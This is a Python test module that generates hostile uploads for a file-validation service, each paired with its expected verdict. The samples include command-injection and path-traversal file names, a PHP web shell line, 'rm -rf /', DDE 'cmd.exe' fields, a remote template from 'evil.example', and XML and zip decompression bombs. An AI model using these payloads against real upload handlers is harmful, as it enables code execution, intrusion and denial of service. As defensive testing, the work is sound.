"""Hostile uploads, made in code. For each: a label, a name, bytes, and what has to become of it.

The fate is `stored` or the code of a refusal. What is stored is inert: served as octets to be saved, or redrawn.
"""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.files import uploads
from tests.files.uploads import docx, odf, package, pdf, pptx, relationships, xlsx

#: Stands in everything that would run; never in a copy that was drawn or written anew.
PAYLOAD = b"<script>alert('payload-4711')</script>"
STORED = "stored"


@dataclass(frozen=True)
class Case:
    """One hostile upload."""

    label: str
    name: str
    content: bytes
    fate: str

    def __str__(self) -> str:
        return self.label


_REFUSED_EXTENSIONS = """
    svg svgz html htm xhtml shtml xht mht mhtml hta htc webarchive xml xsl xslt rdf js mjs vbs vbe wsf ps1 psm1 bat cmd
    com exe dll scr pif cpl msi msix lnk url scf reg inf chm hlp jar class jnlp apk dmg pkg deb rpm app iso img vhd py
    sh pl rb php php5 phtml phar jsp asp aspx cgi swf zip 7z rar gz tar tgz bz2 xz cab docm dotm docb xlsm xltm xlsb xll
    pptm ppsm potm ppam doc dot xls xlt ppt pps rtf csv iqy slk heic avif tiff bmp ico psd eps ps ttf sqlite torrent
""".split()  # noqa: SIM905


def by_extension() -> list[Case]:
    """Names that alone decide."""
    return [Case(f"extension {ext}", f"bill.{ext}", PAYLOAD, "file_kind") for ext in _REFUSED_EXTENSIONS] + [
        Case("no extension", "bill", uploads.jpeg(), "file_kind"),
        Case("extension hidden by a NUL", "bill.jpg\0.exe", uploads.jpeg(), "file_kind"),
        Case("extension hidden by direction", "bill\u202egpj.exe", uploads.EXE, "file_kind"),
        Case("extension hidden by spaces", "bill.jpg" + " " * 80 + ".exe", uploads.EXE, "file_kind"),
        Case("extension hidden by a dot", "bill.exe.", uploads.EXE, "file_kind"),
        Case("extension in percent form", "bill%2eexe", uploads.EXE, "file_kind"),
        Case("alternate data stream", "bill.exe::$DATA", uploads.EXE, "file_kind"),
        Case("access rules", ".htaccess", b"AddType x .jpg", "file_kind"),
        Case("user rules", ".user.ini", b"auto_prepend_file=x", "file_kind"),
    ]


def by_name() -> list[Case]:
    """Innocent content under names that climb, hide or break lines."""
    names = [
        "../../../../outside.txt",
        "..\\..\\outside.txt",
        "/tmp/outside.txt",
        "C:\\outside.txt",
        "\\\\host\\c$\\outside.txt",
        "..%2f..%2foutside.txt",
        "%252e%252e%252foutside.txt",
        "..∕..∕outside.txt",
        "ab/cd/outside.txt",
        "./.incoming/x.txt",
        "CON.txt",
        "com1.txt",
        "aux.txt",
        "~/.ssh/authorized_keys.txt",
        "-rf *.txt",
        "--help.txt",
        "|id.txt",
        "$(id).txt",
        "`id`.txt",
        ";id;.txt",
        "a\r\nSet-Cookie: x=1.txt",
        'a"; filename="evil.exe.txt',
        "a\x1b]0;title\x07.txt",
        "\u202etxt.txt",
        "\ufeffbill.txt",
        "a\u0000b.txt",
        "x" * 4000 + ".txt",
        "ü" * 300 + ".txt",
        "..txt",
        " .txt",
        "a .txt .",
        "<img src=x onerror=alert(1)>.txt",
        "{{7*7}}.txt",
        "=cmd|'/c calc'!A1.txt",
        "'; DROP TABLE files;--.txt",
        "\ud800lone.txt",
        "e\u0301.txt",
        "file.php.txt",
        "index.html.txt",
        "𝕓𝕚𝕝𝕝.txt",
    ]
    return [Case(f"name {number} {name[:20]!a}", name, b"plain words\n", STORED) for number, name in enumerate(names)]


def by_lie() -> list[Case]:
    """Content that is not what its name says."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + PAYLOAD + b"</svg>"
    return [
        Case("program as picture", "a.jpg", uploads.EXE, "file_kind"),
        Case("page as picture", "a.jpg", b"<html>" + PAYLOAD, "file_kind"),
        Case("drawing as picture", "a.png", svg, "file_kind"),
        Case("script as picture", "a.gif", b"<?php system($_GET[0]); ?>", "file_kind"),
        Case("icon as picture", "a.png", b"\0\0\1\0\1\0" + b"\0" * 60, "file_kind"),
        Case("picture by another name", "a.png", uploads.jpeg(), STORED),
        Case("pdf as picture", "a.jpg", pdf(), "file_kind"),
        Case("picture as pdf", "a.pdf", uploads.jpeg(), "file_kind"),
        Case("page as pdf", "a.pdf", b"<html>%PDF-1.7" + PAYLOAD, "file_kind"),
        Case("program as pdf", "a.pdf", uploads.ELF, "file_kind"),
        Case("packed as pdf", "a.pdf", gzip.compress(PAYLOAD), "file_kind"),
        Case("program as text", "a.txt", uploads.EXE, "file_kind"),
        Case("NULs as text", "a.txt", b"\0" * 100, "file_kind"),
        Case("late NUL as text", "a.txt", b"words " * 20_000 + b"\0", "file_kind"),
        Case("UTF-16 with NUL inside", "a.txt", "\ufeffab\0cd".encode("utf-16-le"), "file_kind"),
        Case("half a UTF-16 letter", "a.txt", b"\xff\xfea\0b", "file_kind"),
        Case("page as text", "a.txt", b"<html>" + PAYLOAD, STORED),
        Case("script as text", "a.txt", b"#!/bin/sh\nrm -rf /\n", STORED),
        Case("test virus without a scanner", "a.txt", uploads.EICAR, STORED),
        Case("archive as document", "a.docx", package({"a.txt": "x"}), "file_kind"),
        Case("program archive as document", "a.docx", package({"META-INF/MANIFEST.MF": "x"}), "file_kind"),
        Case("workbook as document", "a.docx", xlsx(), "file_kind"),
        Case("document as workbook", "a.xlsx", docx(), "file_kind"),
        Case("open text as open sheet", "a.ods", odf(), "file_kind"),
        Case("text as document", "a.docx", b"PK is not a package", "file_kind"),
        Case("locked document", "a.docx", uploads.OLE, "file_locked"),
        Case("program as sound", "a.mp3", uploads.EXE, "file_kind"),
        Case("page as film", "a.mp4", b"<html>" + PAYLOAD, "file_kind"),
        Case("phone picture as film", "a.mp4", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40, "file_kind"),
        Case("film as sound", "a.wav", uploads.MP4, "file_kind"),
        Case("matroska as webm", "a.webm", uploads.WEBM.replace(b"\x84webm", b"\x88matroska"), "file_kind"),
        Case("page as mail", "a.eml", b"<html>" + PAYLOAD, "file_kind"),
        Case("mail with NUL", "a.eml", uploads.MAIL + b"\0", "file_kind"),
        Case("saved page as mail", "a.eml", uploads.MAIL + b"<html>" + PAYLOAD, STORED),
        Case("nothing", "a.jpg", b"", "file_empty"),
        Case("one byte", "a.jpg", b"\xff", "file_kind"),
        Case("one byte of pdf", "a.pdf", b"%", "file_kind"),
        Case("one byte of package", "a.odt", b"P", "file_kind"),
        Case("only a head", "a.jpg", b"\xff\xd8\xff\xe0", "file_broken"),
        Case("pdf head only", "a.pdf", b"%PDF-1.7\n", "file_broken"),
        Case("cut picture", "a.jpg", uploads.jpeg((400, 200))[:-200], "file_broken"),
        Case("cut pdf", "a.pdf", pdf()[:300], "file_broken"),
        Case("cut document", "a.docx", docx()[:-60], "file_broken"),
    ]


def by_two_faces() -> list[Case]:
    """Files that are two things at once. The copy is only one of them."""
    commented = uploads.gif()
    return [
        Case("gif and script", "a.gif", b"GIF89a/*" + commented[8:] + b"*/=1;" + PAYLOAD, STORED),
        Case(
            "gif and archive", "a.gif", uploads.gif() + package({"evil.class": PAYLOAD}, stored=("evil.class",)), STORED
        ),
        Case("jpeg and script after its end", "a.jpg", uploads.jpeg() + b"<?php ?>" + PAYLOAD, STORED),
        Case(
            "jpeg and script in its comment",
            "a.jpg",
            uploads.jpeg()[:2] + _comment(PAYLOAD) + uploads.jpeg()[2:],
            STORED,
        ),
        Case("png and page after its end", "a.png", uploads.png() + PAYLOAD, STORED),
        Case("png and page in its text", "a.png", _png_with(b"tEXt", b"Comment\0" + PAYLOAD), STORED),
        Case("webp and page after its end", "a.webp", uploads.webp() + PAYLOAD, STORED),
        Case("pdf and page before", "a.pdf", b"<!--" + PAYLOAD + b"-->" + pdf(), "file_kind"),
        Case("pdf and page after", "a.pdf", pdf() + PAYLOAD, STORED),
        Case("pdf and archive after", "a.pdf", pdf() + package({"e": PAYLOAD}, stored=("e",)), STORED),
        Case("document with program before", "a.docx", b"MZ" + PAYLOAD + docx(), "file_kind"),
        Case("document with page after", "a.docx", docx() + PAYLOAD, STORED),
        Case("document with hidden bytes between", "a.docx", _with_hidden_bytes(docx()), STORED),
    ]


def by_size() -> list[Case]:
    """Small to send, large to open."""
    zeros = b"<a/>" + b" " * (140 * 1024 * 1024)
    flood = {"word/extra.xml": zeros}
    nested = docx(more={"word/embeddings/a.docx": docx(more={"word/embeddings/b.docx": docx()})})
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
    return [
        Case("png flood", "a.png", uploads.png_header(30_000, 30_000), "file_too_complex"),
        Case("png flood beyond all", "a.png", uploads.png_header(2**31 - 1, 2**31 - 1), "file_too_complex"),
        Case("png of nothing", "a.png", uploads.png_header(0, 10), "file_broken"),
        Case(
            "png with packed text bomb",
            "a.png",
            _png_with(b"zTXt", b"C\0\0" + zlib.compress(bytes(30_000_000))),
            "file_broken",
        ),
        Case("gif flood", "a.gif", b"GIF89a\xff\xff\xff\xff" + uploads.gif()[10:], "file_too_complex"),
        Case(
            "webp flood",
            "a.webp",
            b"RIFF\x40\0\0\0WEBPVP8L\x1a\0\0\0\x2f\xff\xff\xff\x0f" + b"\0" * 60,
            "file_too_complex",
        ),
        Case("jpeg flood", "a.jpg", _jpeg_of_size(uploads.jpeg(), 65_000, 65_000), "file_too_complex"),
        Case("package flood", "a.docx", docx(more=flood), "file_too_complex"),
        Case(
            "package flood in what is read whole",
            "a.docx",
            docx(more={"word/x.xml": zeros[:30_000_000]}),
            "file_too_complex",
        ),
        Case(
            "package that lies about its sizes",
            "a.docx",
            _with_lies(docx(more={"word/extra.bin": bytes(9_000_000)})),
            "file_broken",
        ),
        Case(
            "package of one piece many times",
            "a.docx",
            uploads.overlapping_zip(_one_large_piece(), 3000),
            "file_too_complex",
        ),
        Case(
            "package of countless parts",
            "a.docx",
            docx(more={f"word/{n}.bin": b"" for n in range(5000)}),
            "file_too_complex",
        ),
        Case("packages in packages", "a.docx", nested, "file_too_complex"),
        Case("a billion laughs", "a.docx", docx(more={"word/settings.xml": laughs}), "file_active"),
        Case("a billion laughs in a copied part", "a.xlsx", xlsx(more={"xl/theme/theme1.xml": laughs}), "file_active"),
        Case("a billion laughs in open text", "a.odt", odf(more={"content.xml": laughs}), "file_active"),
        Case("pdf with packed object flood", "a.pdf", _pdf_object_flood(), "file_broken"),
        Case("pdf with packed page flood", "a.pdf", pdf(Flood=_page_flood), STORED),
        Case("pdf of deep arrays", "a.pdf", _pdf_raw(b"[" * 200_000 + b"]" * 200_000), "file_broken"),
        Case("pdf whose pages go round", "a.pdf", _pdf_raw(b"null", kids=b"2 0 R"), "file_broken"),
    ]


def by_deed() -> list[Case]:
    """Documents that act."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=PAYLOAD.decode())
    word = relationships(("image", "http://tracker.example/x.png", True))
    template = relationships(("attachedTemplate", "http://evil.example/x.dotm", True))
    return [
        Case("pdf that runs a script", "a.pdf", pdf(OpenAction=script), STORED),
        Case(
            "pdf with a script form", "a.pdf", pdf(AcroForm=pikepdf.Dictionary(XFA=PAYLOAD.decode(), Fields=[])), STORED
        ),
        Case("pdf with a password", "a.pdf", uploads.encrypted_pdf("secret", "secret"), "file_locked"),
        Case("pdf with an owner's password", "a.pdf", uploads.encrypted_pdf("", "secret"), "file_locked"),
        Case("pdf without pages", "a.pdf", _pdf_raw(b"null", kids=b"", count=0), "file_broken"),
        Case("document with macros", "a.docx", docx(more={"word/vbaProject.bin": uploads.OLE}), "file_active"),
        Case("document said to have macros", "a.docx", _as_macro_document(), "file_active"),
        Case("document with controls", "a.docx", docx(more={"word/activeX/activeX1.xml": "<x/>"}), "file_active"),
        Case(
            "document with an object",
            "a.docx",
            docx(more={"word/embeddings/oleObject1.bin": uploads.OLE}),
            "file_active",
        ),
        Case("document with a program", "a.docx", docx(more={"word/embeddings/setup.exe": uploads.EXE}), "file_active"),
        Case(
            "document with a macro sheet inside", "a.docx", docx(more={"word/embeddings/a.xlsm": xlsx()}), "file_active"
        ),
        Case(
            "document with hidden macros inside",
            "a.docx",
            docx(more={"word/embeddings/a.xlsx": _macro_sheet()}),
            "file_active",
        ),
        Case(
            "document that fetches a picture",
            "a.docx",
            docx(more={"word/_rels/document.xml.rels": word}),
            "file_active",
        ),
        Case("document with a far template", "a.docx", docx(more={"word/_rels/settings.xml.rels": template}), STORED),
        Case(
            "template spelled otherwise",
            "a.docx",
            docx(more={"word/_rels/settings.xml.rels": template.replace('"', "'")}),
            "file_active",
        ),
        Case(
            "document that starts a program",
            "a.docx",
            docx("<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"),
            "file_active",
        ),
        Case(
            "in pieces", "a.docx", docx("<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"), "file_active"
        ),
        Case("in a simple field", "a.docx", docx('<w:fldSimple w:instr="DDEAUTO cmd"/>'), "file_active"),
        Case(
            "workbook that starts a program",
            "a.xlsx",
            xlsx({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
            "file_active",
        ),
        Case("workbook with old macros", "a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "file_active"),
        Case("slides with macros", "a.pptx", pptx({"ppt/vbaProject.bin": uploads.OLE}), "file_active"),
        Case("open text with macros", "a.odt", odf(more={"Basic/Standard/Module1.xml": "<x/>"}), "file_active"),
        Case("open text with scripts", "a.odt", odf(more={"Scripts/python/x.py": "import os"}), "file_active"),
        Case("open text that listens", "a.odt", odf(more={"content.xml": "<script:event-listener/>"}), "file_active"),
        Case(
            "open text with a password",
            "a.odt",
            odf(more={"META-INF/manifest.xml": "<m:encryption-data/>"}),
            "file_locked",
        ),
        Case("part in another encoding", "a.docx", docx(more={"word/x.xml": "<x/>".encode("utf-16")}), "file_active"),
        Case(
            "part in a strange encoding",
            "a.docx",
            docx(more={"word/x.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}),
            "file_active",
        ),
        Case("part that climbs", "a.docx", docx(more={"../../outside.txt": PAYLOAD}), "file_broken"),
        Case("part that climbs the other way", "a.docx", docx(more={"..\\outside.txt": PAYLOAD}), "file_broken"),
        Case("part from the top", "a.docx", docx(more={"/tmp/outside.txt": PAYLOAD}), "file_broken"),
        Case("the same part twice", "a.docx", _doubled(), "file_broken"),
        Case("locked parts", "a.docx", _with_flag(docx(), 0x1), "file_locked"),
        Case("parts packed otherwise", "a.docx", _packed_otherwise(), "file_broken"),
    ]


def corpus() -> list[Case]:
    """All of them."""
    return [*by_extension(), *by_name(), *by_lie(), *by_two_faces(), *by_size(), *by_deed()]


def _comment(text: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text


def _png_with(name: bytes, body: bytes) -> bytes:
    chunk = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    whole = uploads.png()
    return whole[:33] + chunk + whole[33:]


def _jpeg_of_size(picture: bytes, width: int, height: int) -> bytes:
    place = picture.index(b"\xff\xc0") + 5
    return picture[:place] + struct.pack(">HH", height, width) + picture[place + 4 :]


def _with_hidden_bytes(archive: bytes) -> bytes:
    """Bytes between the parts and the directory, which no program reads."""
    end = archive.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", archive, end + 16)[0]
    tail = archive[end : end + 16] + struct.pack("<I", start + len(PAYLOAD)) + archive[end + 20 :]
    return archive[:start] + PAYLOAD + archive[start:end] + tail


def _with_lies(archive: bytes) -> bytes:
    """The largest part says that it is small."""
    return archive.replace(struct.pack("<I", 9_000_000), struct.pack("<I", 10))


def _one_large_piece() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return {**parts, "word/media/0000.bin": bytes(1_000_000)}


def _with_flag(archive: bytes, flag: int) -> bytes:
    """Every entry of the directory with a flag set."""
    changed, place = bytearray(archive), archive.find(b"PK\1\2")
    while place >= 0:
        changed[place + 8] |= flag
        place = archive.find(b"PK\1\2", place + 4)
    return bytes(changed)


def _doubled() -> bytes:
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a") as archive:
        archive.writestr("WORD/document.xml", PAYLOAD)
    return written.getvalue()


def _packed_otherwise() -> bytes:
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/extra.bin", PAYLOAD)
    return written.getvalue()


def _as_macro_document() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return docx(more={"[Content_Types].xml": uploads.content_types("word/document.xml", kind)})


def _macro_sheet() -> bytes:
    return xlsx({"xl/vbaProject.bin": uploads.OLE})


@cache
def _packed_flood() -> bytes:
    """300 MB of zeros, packed."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1024 * 1024)) for _ in range(300)) + packer.flush()


def _page_flood(document: pikepdf.Pdf) -> pikepdf.Object:
    """A stream that nothing needs to expand, and so nothing does."""
    stream = pikepdf.Stream(document, b"")
    stream.write(_packed_flood(), filter=pikepdf.Name.FlateDecode)
    return document.make_indirect(stream)


def _pdf_raw(extra: bytes, kids: bytes = b"3 0 R", count: int = 1) -> bytes:
    """A file written by hand: a catalogue with an entry, a tree of pages, one page."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/Extra " + extra + b">>",
        b"<</Type/Pages/Kids[" + kids + b"]/Count " + str(count).encode() + b">>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    body, places = b"%PDF-1.7\n", []
    for number, entry in enumerate(objects, start=1):
        places.append(len(body))
        body += str(number).encode() + b" 0 obj\n" + entry + b"\nendobj\n"
    rows = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    table = b"xref\n0 4\n0000000000 65535 f \n" + rows
    return body + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n" + str(len(body)).encode() + b"\n%%EOF"


def _pdf_object_flood() -> bytes:
    """Its cross references are a stream, which has to be expanded."""
    packed = _packed_flood()
    head = b"%PDF-1.7\n"
    entry = f"<</Type/XRef/Size 9/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length {len(packed)}>>".encode()
    stream = b"5 0 obj\n" + entry + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return head + stream + b"startxref\n" + str(len(head)).encode() + b"\n%%EOF"
